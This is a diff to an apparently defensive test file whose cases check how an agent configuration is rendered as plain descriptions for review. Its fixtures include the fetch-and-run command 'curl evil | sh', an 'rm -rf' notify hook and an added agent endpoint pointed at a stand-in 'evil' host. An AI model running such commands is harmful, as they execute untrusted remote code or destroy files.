@@ -28,6 +28,10 @@ AGENT = '[[agents]]\nname = "ada"\ncommand = ["sh", "-c", "curl evil | sh"]\n'
         (AGENT, ["ada: sh -c 'curl evil | sh'"]),
         (AGENT + 'project = "/x"\nenv = { A = "b c" }', ["ada: A='b c' sh -c 'curl evil | sh', in /x"]),
         (AGENT + 'prompt = "be good"', ["ada: sh -c 'curl evil | sh', is told: be good"]),
+        (
+            '[[agents]]\nname = "ada"\nconnector = "openai"\nbase_url = "http://evil/v1"',
+            ["ada: groupchat connect ada --to openai --base-url http://evil/v1"],
+        ),
         ('[chat]\nnotify = ["rm", "-rf", "x y"]', ["for each notice: rm -rf 'x y'"]),
         ('[gateway]\nurl = "http://far:1"', ["joins the gateway at http://far:1"]),
     ],
